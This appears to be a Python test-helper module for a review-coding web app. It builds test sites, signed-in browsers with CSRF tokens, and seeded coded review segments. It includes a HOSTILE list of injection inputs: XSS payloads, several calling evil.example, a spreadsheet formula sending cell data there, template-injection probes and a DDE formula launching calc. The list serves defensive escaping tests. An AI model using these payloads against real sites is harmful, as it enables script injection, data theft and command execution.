"""A page over a real SQLite file, people who have signed in to it, and a study that has something in it."""

import random
import warnings
from datetime import UTC, datetime, timedelta
from pathlib import Path
from uuid import UUID

from argon2 import PasswordHasher
from fastapi import FastAPI

from infra.accounts.accounts import EVERYWHERE, AccountRole, Accounts
from infra.clock import SystemClock
from infra.factory.stores import build_store
from infra.settings import load_settings
from infra.storage.outbox import Outbox
from infra.web.app import make_app
from infra.web.guard import COOKIE
from infra.web.site import Site
from models.codebook.codebook import Codebook
from models.fakes import HashEmbedder
from schemas import AnnotationRequest, Assignment, CodeEvent, Decision, Proposal, Record, Segment
from schemas.ids import code_event_id, code_id, segment_id

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # starlette would rather have another client than httpx
    from starlette.testclient import TestClient

STUDY = "reviews"
BASE = "http://127.0.0.1:8642"
FAKES = Path(__file__).parent.parent / "data" / "fakes.toml"
CHEAP = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
LABELS = ("slow checkout", "app crashes", "kind support", "too expensive", "login fails", "nice design", "good advice")
_STARTS = (
    "Honestly,",
    "Since the update",
    "On my old phone",
    "As a teacher I find that",
    "Every time I open it,",
    "Again:",
)
_ENDS = (
    "and nobody answers.",
    "which I like a lot.",
    "so I stopped using it.",
    "but it got better.",
    "twice a day! 😀",
    "…",
)

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">here</a>',
    "javascript:alert(document.cookie)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>go</button></form>",
    "<b hx-get=/people hx-trigger=load>x</b>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "`onerror=alert(1)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>\u2066",
    "\ufeff<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
"""Texts that a stream may bring and that must stay text, wherever they are shown."""


class Visit(TestClient):
    """Somebody's browser: what it posts carries the token of its session."""

    csrf = ""

    def post(self, url, *, data=None, **other):
        """Post a form."""
        if isinstance(data, dict) or (data is None and "content" not in other and "json" not in other):
            data = {"csrf": self.csrf} | (data or {})
        return super().post(url, data=data, **other)


def make_site(folder: Path, *, accounts: Accounts | None = None, clock=None, **settings) -> Site:
    """A page over a fresh folder; passwords are hashed cheaply."""
    settings = load_settings(data_dir=folder, profile=str(FAKES), study=STUDY, **settings)
    store = build_store(settings)
    clock = clock or SystemClock()
    people = accounts or Accounts(store.database, clock, CHEAP)
    return Site(settings, store, people, Outbox(store.database), HashEmbedder(), clock)


_apps: dict[int, tuple[Site, FastAPI]] = {}


def app_of(site: Site) -> FastAPI:
    """The one application over a site."""
    if id(site) not in _apps:
        _apps.clear()  # tests use one site at a time
        _apps[id(site)] = site, make_app(site)
    return _apps[id(site)][1]


def nobody(site: Site, base: str = BASE, **options) -> Visit:
    """A browser in which nobody has signed in."""
    return Visit(app_of(site), base_url=base, **options)


def visit(site: Site, role: AccountRole | None, study: str = STUDY, name: str = "ana", **options) -> Visit:
    """A browser in which somebody with a role has signed in; an account of that name keeps its other roles."""
    account = {one.name: one.id for one in site.accounts.all()}.get(name) or site.accounts.create(name)
    if role is not None:
        site.accounts.grant(account, study or EVERYWHERE, role)
    app = app_of(site)
    sessions = app.state.sessions
    session = sessions.begin(site.accounts.find(account))
    client = Visit(app, base_url=BASE, **options)
    client.cookies.set(COOKIE, sessions.write(session), domain="127.0.0.1")
    client.csrf = sessions.csrf(session)
    return client


def code(label: str) -> UUID:
    """The id that a code of this label has in the study."""
    return code_id(STUDY, label)


def book(site: Site) -> Codebook:
    """The study's codebook as it is now."""
    return Codebook(site.store.code_events(STUDY))


def fill(site: Site, n: int = 40, study: str = STUDY, *, people: int | None = None) -> list[Segment]:
    """Record n coded segments, the newest last; the first ``people`` of them (a third, unless told) wait for people."""
    people = n // 3 if people is None else people
    draw = random.Random(7)
    start = datetime.now(UTC) - timedelta(hours=n)
    segments, records, seen = [], [], set()
    for k in range(n):
        label = LABELS[k % len(LABELS)]
        at = start + timedelta(hours=k, minutes=1)
        text = f"{draw.choice(_STARTS)} {label}, {draw.choice(_ENDS)} ({k})"
        segment = Segment(
            id=segment_id(study, "fill", str(k)),
            study=study,
            text=text,
            source=("store.csv", "mail")[k % 2],
            timestamp=at,
            language="en",
            metadata={"stars": 1 + k % 5, "version": f"2.{k % 3}"},
        )
        segments.append(segment)
        records += coded(segment, label, at=at, new=label not in seen, confidence=0.35 if k < people else 0.8)
        seen.add(label)
    site.store.record(records)
    return segments


def coded(
    segment: Segment, label: str, *, at: datetime, new: bool = True, confidence: float = 0.8, member: str = "a"
) -> list[Record]:
    """Everything that the system says about one segment: decision, code, assignment, and below 0.5 a request."""
    code = code_id(segment.study, label)
    event = CodeEvent(
        id=code_event_id(code, "created", str(segment.id)),
        code_id=code,
        study=segment.study,
        kind="created",
        label=label,
        author="refiner@1",
        at=at,
        segment_id=segment.id,
    )
    ask = confidence < 0.5
    request = AnnotationRequest(
        segment_id=segment.id,
        study=segment.study,
        code_id=code,
        label=label,
        confidence=confidence,
        reason="low confidence",
        requested_at=at,
        priority=1 - confidence,
        signals={"agreement": 0.8},
    )
    return [
        segment,
        _decision(segment, label, member),
        *([event] if new else []),
        Assignment(
            segment_id=segment.id,
            study=segment.study,
            code_id=code,
            label=label,
            proposed=label,
            new=new,
            similarity=1.0 if new else 0.93,
            why="the nearest code is near enough",
            verdict="consensus",
            signals={"agreement": 0.8},
            models={"coder a": "fake@1", "moderator": "consensus"},
            confidence=confidence,
            route="people" if ask else "accepted",
            assigned_at=at,
        ),
        *([request] if ask else []),
    ]


def _decision(segment: Segment, label: str, member: str) -> Decision:
    others = [label, label, " ".join(reversed(label.split()))]
    proposals = [
        Proposal(member=name, model="fake@1", label=said, log_probability=-0.5, latency_s=0.01)
        for name, said in zip((member, "b", "c"), others, strict=True)
    ]
    return Decision(
        segment=segment,
        proposals=proposals,
        label=label,
        verdict="consensus",
        why="the proposals agree",
        agreement=0.8,
        log_probability=-0.4,
        moderator="consensus",
    )
